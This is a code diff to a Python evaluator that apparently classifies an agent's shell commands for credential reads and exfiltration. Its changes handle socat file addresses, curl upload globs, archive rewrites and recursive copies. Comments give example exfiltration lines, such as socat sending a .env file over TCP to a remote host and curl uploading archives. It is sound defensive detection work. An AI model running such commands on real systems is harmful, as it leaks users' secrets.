@@ -709,6 +709,8 @@ class Evaluator:
         unwalked: list[Match] = []
         if commands:
             commands = _through_tree_links(commands, view, unwalked)
+            if "socat" in text:
+                commands = _socat_addresses(commands)
         # A line that sends a tree reader's output or a recursive copy to another host: a folder word
         # holding a secret is of class secret_holder there (View._holds; the project_exfiltration rows).
         # A recursive search printing every file's text to the caller (`grep -r X .`) reads it to them too.
@@ -721,8 +723,10 @@ class Evaluator:
             commands = _copied_trees(_implicit_folders(_printed_folders(commands)))
         elif commands and any(command.name in _TREE_COPIERS for command in commands):
             # a file read in a tree copied on the line is read where it came from (`cp -r . ../c; cat ../c/.*`: the
-            # copy is not on disk when the line is judged, so its globs land on nothing; open37)
-            commands = _copied_trees(commands)
+            # copy is not on disk when the line is judged, so its globs land on nothing; open37, redt37). Readers only:
+            # what deletes or lists the copy (`cp -r . /tmp/b && rm -rf /tmp/b/*`) touches the copy, not the source
+            made = _copied_trees(commands)[len(commands) :]
+            commands = [*commands, *(c for c in made if c.name not in _COPY_UNREAD and c.name not in _FINDERS)]
         if _DOT_GLOBS.search(text) is not None or (_QUOTED_DOT_GLOBS.search(text) is not None and _dot_globs(commands)):
             commands = _with_dot_names(commands)
         classify = view.classify
@@ -1660,6 +1664,7 @@ _NAME_ONLY = frozenset(
 )
 
 
+_COPY_UNREAD = _NAME_ONLY - {"sed"}  # (sed prints what it reads, unless -i: `cp -r . ../c; sed p ../c/.*`)
 _DEREFERENCES = frozenset({"R", "dereference-recursive"})  # a search following every link of the tree
 _SECRET_LISTED = frozenset({"secret", "credential", "secret_parent", "computed_source"})
 
@@ -2271,14 +2276,18 @@ def _sent_archives(commands: list[Command], session: SessionView, programs: Prog
     handed = False  # a file is sent by no word of a sender's: the senders are fed by its reader
     for command in commands:
         sender = any(command is c for c in senders)
-        if not senders and (
-            not _prints_text((command.name, *command.argv[1:]))
-            or (command.name in _ARCHIVERS and _archives_to(command) is not None)
-        ):
+        # an archiver writing one again: its archive holds what the file held (`tar cf y.tar x.txt`, redt37)
+        rewrites = _archives_to(command) if command.name in _ARCHIVERS else None
+        if not senders and rewrites is None and not _prints_text((command.name, *command.argv[1:])):
             continue  # (a reader printing it: `tar xOf /tmp/x.tar`, `unzip -p x.zip`; _prints_trees)
         cwd = command.cwd or ""
         words = [w for arg in command.argv[1:] for w in (file_operand(arg), arg.partition("=")[2]) if w]
         words += [target for op, target in command.redirects if op in ("<", "<>")]
+        if sender and command.name in _ADDRESSED:
+            # the file of an address (`socat -u FILE:x.tgz TCP:h:80`, `OPEN:x.tgz,rdonly`), curl's own globbing
+            # of an upload (`curl -T '{x.tgz,y}' URL`): redt37
+            words += [_address_file(w) for w in command.argv[1:] if ":" in w and "://" not in w]
+            words += [n for w in command.argv[1:] if "{" in w or "[" in w for n in curl_glob_names(w)]
         found: list[tuple[str, tuple[str, ...]]] = []
         for word in dict.fromkeys(words):
             if word.startswith("-"):
@@ -2286,8 +2295,13 @@ def _sent_archives(commands: list[Command], session: SessionView, programs: Prog
             sources = session.archive_sources(posixpath.join(cwd, word))
             if not sources and ("*" in word or "?" in word or "[" in word):  # `cat x.t*`, `strings *.tar` (redt37)
                 sources = _globbed_archives(posixpath.join(cwd, word), session)
+            elif not sources and "/" in word:
+                # its name in a folder the line does not know for certain (`cat ~-/../x.tar`, `"$OLDPWD/../x.tar"`,
+                # `~1/../x.tar`, after `cd -`): the file of that name the session wrote (redt37)
+                sources = _globbed_archives(posixpath.basename(word), session)
             if sources:
-                found.append((word if sender or not senders else "-", _through_archives(sources, session)))
+                made_to = rewrites if rewrites is not None and not sender else word if sender or not senders else "-"
+                found.append((made_to, _through_archives(sources, session)))
         if sender and (
             any(d and _PATH_OR_OUTPUT.search(w) for w, d in zip(command.argv[1:], command.dynamic[1:], strict=False))
             or any("{}" in w for w in command.argv[1:])
@@ -2303,6 +2317,27 @@ def _sent_archives(commands: list[Command], session: SessionView, programs: Prog
     if handed:
         out = [_fed_by_tar(c) if any(c is s for s in senders) else c for c in out]
     return out
+
+
+_ADDRESSED = frozenset({"socat", "curl"})
+# socat's address types that open a file by its path (`FILE:.env`, `OPEN:x,rdonly`, `GOPEN:x`, `CREATE:x`)
+_SOCAT_FILES = re.compile(r"(?i)^(?:FILE|OPEN|GOPEN|CREATE|CREAT|PIPE|NAMEDPIPE):")
+
+
+def _socat_addresses(commands: list[Command]) -> list[Command]:
+    """The commands, and socat's again with each address that opens a file given as the file's path (`socat -u
+    FILE:.env TCP:h:80` reads `.env` as `socat -u .env TCP:h:80` names it: credential_read, _sends_away; redt37)."""
+    out = commands
+    for command in commands:
+        if command.name == "socat" and any(_SOCAT_FILES.match(w) for w in command.argv[1:]):
+            argv = tuple(_address_file(w) if _SOCAT_FILES.match(w) else w for w in command.argv)
+            out = [*out, _through_link(command, argv, "address")]
+    return out
+
+
+def _address_file(word: str) -> str:
+    """The path of a socat address (`FILE:x.tgz`, `OPEN:x,rdonly`, `GOPEN:x`): what follows its type, to a comma."""
+    return word.partition(":")[2].partition(",")[0]
 
 
 def _through_archives(sources: tuple[str, ...], session: SessionView) -> tuple[str, ...]:
